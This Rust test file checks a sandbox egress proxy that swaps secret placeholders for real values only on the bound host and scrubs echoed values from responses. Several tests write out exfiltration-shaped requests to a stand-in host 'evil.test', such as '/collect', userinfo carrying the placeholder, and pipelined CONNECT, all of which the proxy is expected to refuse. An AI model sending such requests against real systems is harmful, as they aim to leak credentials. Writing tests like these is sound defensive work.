//! Secrets at the edge against a real TLS upstream on loopback: the proxy terminates TLS
//! for the bound host with the sandbox's CA, puts the value in place of the placeholder,
//! verifies the upstream, and refuses a placeholder headed anywhere else.

use std::net::SocketAddr;
use std::sync::Arc;

use rustls_pki_types::ServerName;
use sandboxio_core::NetworkMode;
use sandboxio_egress::edge::{upstream_trust, EdgeCa, LoadedSecret};
use sandboxio_egress::rules::HostGlob;
use sandboxio_egress::secrets::SecretValue;
use sandboxio_egress::{Edge, EgressConfig, Guard, GuardOnly, Limits, Proxy, Resolver};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::net::name_server;

const LOOP: [u8; 4] = [127, 0, 0, 1];
const VALUE: &str = "real-value-7f3a";

fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::ring::default_provider())
}

async fn head_of<S: AsyncRead + Unpin>(s: &mut S) -> String {
    let mut got = Vec::new();
    let mut b = [0u8; 1];
    while !got.ends_with(b"\r\n\r\n") {
        match s.read(&mut b).await {
            Ok(1) => got.push(b[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&got).to_string()
}

/// Request heads an upstream received.
type Seen = Arc<std::sync::Mutex<Vec<String>>>;

/// An HTTPS server for `up.test` answering each request with its head as the body (and a
/// header repeating its authorization). Returns its address, the PEM of the CA that signed
/// its certificate, and the heads it received.
async fn tls_upstream() -> (SocketAddr, String, Seen) {
    let seen: Seen = Arc::default();
    let keep = seen.clone();
    let ca = EdgeCa::new(&[HostGlob::parse("up.test").unwrap()]).unwrap();
    let (chain, key) = ca.issue("up.test").unwrap();
    let cfg = rustls::ServerConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(chain, key)
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (s, _) = l.accept().await.unwrap();
            let acceptor = acceptor.clone();
            let keep = keep.clone();
            tokio::spawn(async move {
                let Ok(mut s) = acceptor.accept(s).await else {
                    return;
                };
                let head = head_of(&mut s).await;
                keep.lock().unwrap().push(head.clone());
                let body = head.to_ascii_lowercase();
                let auth = head
                    .lines()
                    .find_map(|l| l.strip_prefix("authorization: "))
                    .unwrap_or("none")
                    .to_string();
                let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
                let wants_gzip = head
                    .lines()
                    .any(|l| l.starts_with("accept-encoding:") && l.contains("gzip"));
                // `/gz`: compressed when asked for; `/gz-always`: whatever was asked;
                // `/name`: the token echoed in a header's name.
                let extra = match path.as_str() {
                    "/gz" if wants_gzip => "content-encoding: gzip\r\n".to_string(),
                    "/gz-always" => "content-encoding: gzip\r\n".to_string(),
                    "/name" => format!(
                        "x-{}: name-echo\r\n",
                        auth.trim_start_matches("Bearer ").to_ascii_lowercase()
                    ),
                    _ => String::new(),
                };
                let token = auth.trim_start_matches("Bearer ");
                // `/reason`: the token echoed in the status line's reason phrase (raw, in
                // hex, in base64); `/trailer`: in a trailer of a chunked answer.
                let resp = match path.as_str() {
                    "/reason" => format!("HTTP/1.1 200 {auth}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n"),
                    "/reason-hex" => format!(
                        "HTTP/1.1 200 id {}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n",
                        token.bytes().map(|b| format!("{b:02x}")).collect::<String>()
                    ),
                    "/reason-b64" => {
                        use base64::Engine as _;
                        let enc = base64::engine::general_purpose::STANDARD.encode(format!("u:{token}"));
                        format!("HTTP/1.1 401 {enc}\r\ncontent-length: 3\r\nconnection: close\r\n\r\nok\n")
                    }
                    // `/te-gzip`: a transfer-coding nobody asked for (the body would be
                    // gzip; any bytes do here).
                    "/te-gzip" => "HTTP/1.1 200 OK\r\ntransfer-encoding: gzip, chunked\r\nconnection: close\r\n\r\n5\r\nxxxxx\r\n0\r\n\r\n".to_string(),
                    "/trailer" => format!(
                        "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\nconnection: close\r\n\r\n6\r\nhello\n\r\n0\r\nx-echo: {auth}\r\nx-{}: name\r\n\r\n",
                        token.to_ascii_lowercase()
                    ),
                    _ => format!(
                        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nx-you-sent: {auth}\r\n{extra}connection: close\r\n\r\n{body}",
                        body.len()
                    ),
                };
                // `/slow`: the answer takes 2 s.
                if path == "/slow" {
                    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
                }
                let _ = s.write_all(resp.as_bytes()).await;
                let _ = s.shutdown().await;
            });
        }
    });
    (addr, ca.pem(), seen)
}

fn secret(name: &str, value: &str, host: &str) -> Arc<LoadedSecret> {
    Arc::new(LoadedSecret {
        name: name.into(),
        value: SecretValue::new(value.as_bytes().to_vec()).unwrap(),
        hosts: vec![HostGlob::parse(host).unwrap()],
    })
}

struct Setup {
    proxy_addr: SocketAddr,
    proxy: Arc<Proxy>,
    edge: Arc<Edge>,
    up: SocketAddr,
    seen: Seen,
    _dir: tempfile::TempDir,
}

/// A proxy allowing up.test, other.test and plain.test on the upstream's port, with TOKEN
/// bound to up.test and OTHER bound to other.test. `trust_upstream`: whether the upstream's
/// CA is given as `upstream_ca`.
async fn setup(trust_upstream: bool) -> Setup {
    setup_with(trust_upstream, Limits::default()).await
}

/// [`setup`] with the proxy's own limits.
async fn setup_with(trust_upstream: bool, limits: Limits) -> Setup {
    let (up, up_ca, seen) = tls_upstream().await;
    let (ns, _) = name_server(&[
        ("up.test", LOOP),
        ("other.test", LOOP),
        ("plain.test", LOOP),
    ])
    .await;
    let dir = tempfile::tempdir().unwrap();
    let ca_file = dir.path().join("upstream-ca.pem");
    std::fs::write(&ca_file, up_ca).unwrap();
    let section = sandboxio_config::NetworkSection {
        allow_private: vec!["127.0.0.1".into()],
        resolver: vec![ns.to_string()],
        ..Default::default()
    };
    let cfg = EgressConfig::from_section(&section).unwrap();
    let allow = ["up.test", "other.test", "plain.test"]
        .iter()
        .map(|h| format!("{h}:{}", up.port()))
        .collect();
    let rules = cfg
        .rules_for(&NetworkMode::Allowlist { allow })
        .unwrap()
        .unwrap();
    let guard = Guard::new(rules, Resolver::new(&cfg.resolver), "t");
    let trust = upstream_trust(trust_upstream.then_some(ca_file.as_path())).unwrap();
    let edge = Arc::new(
        Edge::new(
            vec![
                secret("TOKEN", VALUE, "up.test"),
                secret("OTHER", "other-value-9c", "other.test"),
            ],
            &trust,
        )
        .unwrap(),
    );
    let proxy = Proxy::with_limits(
        Arc::new(GuardOnly(Arc::new(guard))),
        Some(edge.clone()),
        limits,
    );
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_addr = l.local_addr().unwrap();
    tokio::spawn(proxy.clone().serve(l));
    Setup {
        proxy_addr,
        proxy,
        edge,
        up,
        seen,
        _dir: dir,
    }
}

fn placeholder(edge: &Edge, name: &str) -> String {
    edge.placeholders()
        .into_iter()
        .find(|(n, _)| n == name)
        .unwrap()
        .1
}

/// CONNECT to `host` through the proxy, TLS trusting only the sandbox's CA, one request
/// with `authorization`; returns the whole response.
async fn via_tunnel(s: &Setup, host: &str, authorization: &str) -> String {
    via_tunnel_to(s, host, "/v1/me", "", authorization).await
}

/// [`via_tunnel`] for `path`, with `extra` header lines (each ending in CRLF).
async fn via_tunnel_to(
    s: &Setup,
    host: &str,
    path: &str,
    extra: &str,
    authorization: &str,
) -> String {
    let req = format!(
        "GET {path} HTTP/1.1\r\nhost: {host}\r\n{extra}authorization: {authorization}\r\nconnection: close\r\n\r\n"
    );
    tunnel_raw(s, host, req.as_bytes()).await
}

/// CONNECT to `host` through the proxy, TLS trusting only the sandbox's CA; the TLS
/// stream, ready for requests.
async fn open_tunnel(s: &Setup, host: &str) -> tokio_rustls::client::TlsStream<TcpStream> {
    let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
    let connect = format!(
        "CONNECT {host}:{p} HTTP/1.1\r\nhost: {host}:{p}\r\n\r\n",
        p = s.up.port()
    );
    tcp.write_all(connect.as_bytes()).await.unwrap();
    let head = head_of(&mut tcp).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let mut roots = rustls::RootCertStore::empty();
    for c in rustls_pki_types::CertificateDer::pem_slice_iter(s.edge.ca_pem().as_bytes()) {
        roots.add(c.unwrap()).unwrap();
    }
    let cfg = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    tokio_rustls::TlsConnector::from(Arc::new(cfg))
        .connect(ServerName::try_from(host.to_string()).unwrap(), tcp)
        .await
        .expect("the proxy's leaf verifies against the sandbox's CA")
}

/// `raw` sent as it is inside a tunnel to `host`; the whole answer.
async fn tunnel_raw(s: &Setup, host: &str, raw: &[u8]) -> String {
    let mut tls = open_tunnel(s, host).await;
    tls.write_all(raw).await.unwrap();
    read_all(&mut tls).await
}

async fn read_all<S: AsyncRead + AsyncWrite + Unpin>(s: &mut S) -> String {
    let mut out = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).to_string()
}

use rustls_pki_types::pem::PemObject;

#[tokio::test]
async fn the_placeholder_becomes_the_value_for_the_bound_host_only() {
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    let got = via_tunnel(&s, "up.test", &format!("Bearer {p}")).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    // The upstream got the value, not the placeholder.
    let heads = s.seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 1);
    assert!(
        heads[0].contains(&format!("authorization: Bearer {VALUE}")),
        "{heads:?}"
    );
    assert!(!heads[0].contains("sbx-secret-"), "{heads:?}");
    // What it echoed back (header and body) reaches the client with the placeholder again.
    assert!(
        !got.contains(VALUE),
        "the value came back to the sandbox: {got}"
    );
    assert!(got.contains(&format!("x-you-sent: Bearer {p}")), "{got}");
    assert!(
        got.contains(&format!("authorization: bearer {}", p.to_ascii_lowercase()))
            || got.contains(&p),
        "{got}"
    );
    assert_eq!(s.proxy.summary().denials, 0);
}

/// The program chooses the answer's encoding: a value echoed gzipped passed the byte
/// scrubber and reached it, and one echoed in a header's name was never looked for.
#[tokio::test]
async fn an_echoed_value_comes_back_scrubbed_whatever_encoding_or_header_name() {
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    let bearer = format!("Bearer {p}");
    // The program asks for gzip: the upstream is asked for identity, and answers so.
    let got = via_tunnel_to(&s, "up.test", "/gz", "accept-encoding: gzip\r\n", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    assert!(!got.contains("content-encoding"), "{got}");
    assert!(
        !got.contains(VALUE),
        "the value came back to the sandbox: {got}"
    );
    let heads = s.seen.lock().unwrap().clone();
    assert!(
        heads[0].contains("accept-encoding: identity") && !heads[0].contains("gzip"),
        "{heads:?}"
    );
    // An upstream that compresses anyway: refused, nothing of its answer passed on.
    let got = via_tunnel_to(&s, "up.test", "/gz-always", "", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 502"), "{got}");
    assert!(got.contains("SBX_E2415"), "{got}");
    assert!(!got.contains(VALUE), "{got}");
    // The value in a header's name.
    let got = via_tunnel_to(&s, "up.test", "/name", "", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    assert!(
        !got.to_ascii_lowercase()
            .contains(&VALUE.to_ascii_lowercase()),
        "the value came back in a header name: {got}"
    );
}

#[tokio::test]
async fn a_placeholder_for_another_host_is_refused_over_tls_and_plain_http() {
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    // other.test is terminated (OTHER is bound to it) but TOKEN is not bound there.
    let got = via_tunnel(&s, "other.test", &format!("Bearer {p}")).await;
    assert!(got.starts_with("HTTP/1.1 403"), "{got}");
    assert!(
        got.contains("SBX_E2417") && got.contains("`TOKEN`"),
        "{got}"
    );
    assert!(!got.contains(VALUE));
    // Plain HTTP: refused whatever the host, even the bound one.
    for host in ["plain.test", "up.test"] {
        let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
        let req = format!(
            "GET http://{host}:{port}/ HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer {p}\r\nconnection: close\r\n\r\n",
            port = s.up.port()
        );
        tcp.write_all(req.as_bytes()).await.unwrap();
        let got = read_all(&mut tcp).await;
        assert!(got.starts_with("HTTP/1.1 403"), "{got}");
        assert!(got.contains("SBX_E2416"), "{got}");
    }
    let sum = s.proxy.summary();
    assert_eq!(sum.denials, 3);
    assert!(sum
        .denied_hosts
        .contains(&format!("plain.test:{}", s.up.port())));
}

#[tokio::test]
async fn an_upstream_that_does_not_verify_gets_nothing() {
    // Without `upstream_ca` the test upstream's certificate is not trusted: the request
    // (and the value) never leaves.
    let s = setup(false).await;
    let p = placeholder(&s.edge, "TOKEN");
    let got = via_tunnel(&s, "up.test", &format!("Bearer {p}")).await;
    assert!(got.starts_with("HTTP/1.1 502"), "{got}");
    assert!(got.contains("TLS with the upstream failed"), "{got}");
}

#[tokio::test]
async fn a_placeholder_in_cleartext_inside_an_opaque_tunnel_is_refused() {
    // plain.test has no secret bound: its tunnel is not terminated, but a placeholder in
    // the first bytes (HTTP sent in clear through CONNECT) is seen and refused.
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
    let connect = format!(
        "CONNECT plain.test:{port} HTTP/1.1\r\nhost: plain.test:{port}\r\n\r\n",
        port = s.up.port()
    );
    tcp.write_all(connect.as_bytes()).await.unwrap();
    let head = head_of(&mut tcp).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let req = format!("GET / HTTP/1.1\r\nhost: plain.test\r\nauthorization: Bearer {p}\r\n\r\n");
    tcp.write_all(req.as_bytes()).await.unwrap();
    let rest = read_all(&mut tcp).await;
    assert!(rest.is_empty(), "the tunnel answered: {rest}");
    let sum = s.proxy.summary();
    assert_eq!(sum.denials, 1, "{sum:?}");
    assert!(sum
        .denied_hosts
        .contains(&format!("plain.test:{}", s.up.port())));
}

/// The tunnel was decided for up.test, and the secret is bound to it: a request inside
/// that names another authority (absolute-form, userinfo, `Host`) would reach another
/// virtual host behind the same address with the value. Refused before anything leaves;
/// the tunnel's own host in absolute-form goes origin-form.
#[tokio::test]
async fn a_request_naming_another_host_inside_a_terminated_tunnel_is_refused() {
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    let port = s.up.port();
    let auth = format!("authorization: Bearer {p}\r\nconnection: close\r\n\r\n");
    for (line, host) in [
        (
            "GET https://evil.test/collect HTTP/1.1".to_string(),
            "up.test".to_string(),
        ),
        (
            format!("GET https://evil.test:{port}/collect HTTP/1.1"),
            "up.test".into(),
        ),
        (
            format!("GET https://user:{p}@evil.test/steal HTTP/1.1"),
            "up.test".into(),
        ),
        (
            format!("GET https://user:{p}@up.test:{port}/steal HTTP/1.1"),
            "up.test".into(),
        ),
        (
            "GET https://up.test/443-is-not-this-port HTTP/1.1".into(),
            "up.test".into(),
        ),
        (
            format!("GET http://up.test:{port}/x HTTP/1.1"),
            "up.test".into(),
        ),
        ("GET * HTTP/1.1".into(), "up.test".into()),
        (format!("GET up.test:{port} HTTP/1.1"), "up.test".into()),
        ("GET /x HTTP/1.1".into(), "evil.test".into()),
        ("GET /x HTTP/1.1".into(), format!("{p}@up.test")),
    ] {
        let req = format!("{line}\r\nhost: {host}\r\n{auth}");
        let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
        assert!(
            got.starts_with("HTTP/1.1 403") || got.starts_with("HTTP/1.1 400"),
            "{line} / {host}: {got}"
        );
        if got.starts_with("HTTP/1.1 403") {
            assert!(got.contains("SBX_E2419"), "{line}: {got}");
        }
        assert!(!got.contains(VALUE), "{got}");
    }
    assert!(
        s.seen.lock().unwrap().is_empty(),
        "a request naming another host went upstream: {:?}",
        s.seen.lock().unwrap()
    );
    // The tunnel's own authority in absolute-form (any case): sent origin-form, injected.
    let req = format!("GET https://UP.test:{port}/mine?q=1 HTTP/1.1\r\nhost: up.test\r\n{auth}");
    let got = tunnel_raw(&s, "up.test", req.as_bytes()).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    let heads = s.seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].starts_with("GET /mine?q=1 HTTP/1.1\r\n"),
        "{heads:?}"
    );
    assert!(
        heads[0].contains(&format!("host: up.test:{port}")),
        "{heads:?}"
    );
    assert!(heads[0].contains(VALUE), "{heads:?}");
    assert!(s.proxy.summary().denials >= 8, "{:?}", s.proxy.summary());
}

/// An upstream that reflects the token in its status line's reason phrase (or a trailer)
/// handed the value to the program: the reason is the canonical one once a value went up
/// on the tunnel, and trailers are scrubbed like headers.
#[tokio::test]
async fn the_reason_phrase_and_trailers_never_carry_the_value_back() {
    let s = setup(true).await;
    let p = placeholder(&s.edge, "TOKEN");
    let bearer = format!("Bearer {p}");
    let hex: String = VALUE.bytes().map(|b| format!("{b:02x}")).collect();
    let b64 = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(format!("u:{VALUE}"))
    };
    for (path, status) in [
        ("/reason", "HTTP/1.1 200 OK\r\n"),
        ("/reason-hex", "HTTP/1.1 200 OK\r\n"),
        ("/reason-b64", "HTTP/1.1 401 Unauthorized\r\n"),
    ] {
        let got = via_tunnel_to(&s, "up.test", path, "", &bearer).await;
        assert!(got.starts_with(status), "{path}: {got}");
        for form in [VALUE, hex.as_str(), &b64[4..20]] {
            assert!(!got.contains(form), "{path}: the value came back: {got}");
        }
    }
    // Trailers, asked for by the program.
    let got = via_tunnel_to(&s, "up.test", "/trailer", "te: trailers\r\n", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    assert!(
        !got.to_ascii_lowercase()
            .contains(&VALUE.to_ascii_lowercase()),
        "the value came back in a trailer: {got}"
    );
    // Nothing injected on the tunnel and nothing of a value in it: the reason stays.
    let got = via_tunnel_to(&s, "up.test", "/reason", "", "Bearer none").await;
    assert!(got.starts_with("HTTP/1.1 200 Bearer none\r\n"), "{got}");
}

/// A terminated tunnel whose client never starts TLS (or stops talking) is closed once
/// idle, like an opaque one.
#[tokio::test]
async fn an_idle_terminated_tunnel_is_closed() {
    let limits = Limits {
        idle: std::time::Duration::from_secs(1),
        ..Limits::default()
    };
    let s = setup_with(true, limits).await;
    let mut tcp = TcpStream::connect(s.proxy_addr).await.unwrap();
    let connect = format!(
        "CONNECT up.test:{p} HTTP/1.1\r\nhost: up.test:{p}\r\n\r\n",
        p = s.up.port()
    );
    tcp.write_all(connect.as_bytes()).await.unwrap();
    assert!(head_of(&mut tcp).await.starts_with("HTTP/1.1 200"));
    let mut rest = Vec::new();
    let n = tokio::time::timeout(
        std::time::Duration::from_secs(5),
        tcp.read_to_end(&mut rest),
    )
    .await
    .expect("a silent terminated tunnel stayed open");
    assert_eq!(n.unwrap_or(0), 0);
    // After a request, too.
    let mut tls = open_tunnel(&s, "up.test").await;
    tls.write_all(b"GET /v1/me HTTP/1.1\r\nhost: up.test\r\n\r\n")
        .await
        .unwrap();
    let got = tokio::time::timeout(std::time::Duration::from_secs(5), read_all(&mut tls)).await;
    assert!(got
        .expect("an idle terminated tunnel stayed open")
        .starts_with("HTTP/1.1 200"));
    // An upstream slower than the idle time: the tunnel waits for its answer.
    let got = via_tunnel_to(&s, "up.test", "/slow", "", "Bearer none").await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
}

/// In a terminated tunnel every request is parsed: a CONNECT (any case) is refused at each
/// request boundary, not only as the first bytes, and a request line that does not parse
/// ends the tunnel; nothing of either reaches the upstream.
#[tokio::test]
async fn a_connect_anywhere_in_a_terminated_tunnel_is_refused() {
    let s = setup(true).await;
    let first = "GET /v1/me HTTP/1.1\r\nhost: up.test\r\n\r\n";
    for (inner, expect) in [
        (
            "CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
            "SBX_E2413",
        ),
        (
            "connect evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
            "SBX_E2413",
        ),
        (
            "Connect https://evil.test/ HTTP/1.1\r\nhost: up.test\r\n\r\n",
            "SBX_E2413",
        ),
        (
            "\x0bCONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
            "HTTP/1.1 400",
        ),
    ] {
        // Pipelined after a first request, in the same write.
        let got = tunnel_raw(&s, "up.test", format!("{first}{inner}").as_bytes()).await;
        assert!(got.starts_with("HTTP/1.1 200"), "{inner:?}: {got}");
        let second = &got[4..];
        let at = second.find("HTTP/1.1 ").map(|i| &second[i..]).unwrap_or("");
        assert!(at.contains(expect), "{inner:?}: {got}");
        // After a first request that was answered.
        let mut tls = open_tunnel(&s, "up.test").await;
        tls.write_all(first.as_bytes()).await.unwrap();
        let mut buf = vec![0u8; 4096];
        let n = tls.read(&mut buf).await.unwrap();
        assert!(buf[..n].starts_with(b"HTTP/1.1 200"));
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        tls.write_all(inner.as_bytes()).await.unwrap();
        let got = read_all(&mut tls).await;
        assert!(got.contains(expect), "{inner:?}: {got}");
    }
    let seen = s.seen.lock().unwrap().clone();
    assert!(
        seen.iter().all(|h| h.starts_with("GET /v1/me ")),
        "something else reached the upstream: {seen:?}"
    );
    assert_eq!(seen.len(), 8, "{seen:?}");
}

/// `Transfer-Encoding: gzip, chunked`: hyper removes only `chunked`, so the body reached
/// the scrubber still compressed and an echoed value passed it. Refused like a compressed
/// `Content-Encoding`.
#[tokio::test]
async fn a_transfer_coding_other_than_chunked_is_refused() {
    let s = setup(true).await;
    let bearer = format!("Bearer {}", placeholder(&s.edge, "TOKEN"));
    let got = via_tunnel_to(&s, "up.test", "/te-gzip", "", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 502"), "{got}");
    assert!(got.contains("SBX_E2415") && got.contains("gzip"), "{got}");
    assert!(!got.contains("xxxxx"), "{got}");
    // Plain `chunked` still goes through.
    let got = via_tunnel_to(&s, "up.test", "/trailer", "", &bearer).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
}

/// `Range` on a request that carries a value: an upstream echoing it in byte ranges hands
/// it back in slices the scrubber cannot recognise. Dropped when a value was injected;
/// left alone otherwise.
#[tokio::test]
async fn range_is_dropped_where_a_value_was_injected() {
    let s = setup(true).await;
    let bearer = format!("Bearer {}", placeholder(&s.edge, "TOKEN"));
    let range = "range: bytes=40-60\r\nif-range: \"x\"\r\n";
    let got = via_tunnel_to(&s, "up.test", "/range", range, &bearer).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    let got = via_tunnel_to(&s, "up.test", "/range", range, "none").await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    let heads = s.seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 2, "{heads:?}");
    assert!(
        !heads[0].to_ascii_lowercase().contains("range:"),
        "{heads:?}"
    );
    assert!(
        heads[1].contains("range: bytes=40-60") && heads[1].contains("if-range:"),
        "{heads:?}"
    );
}
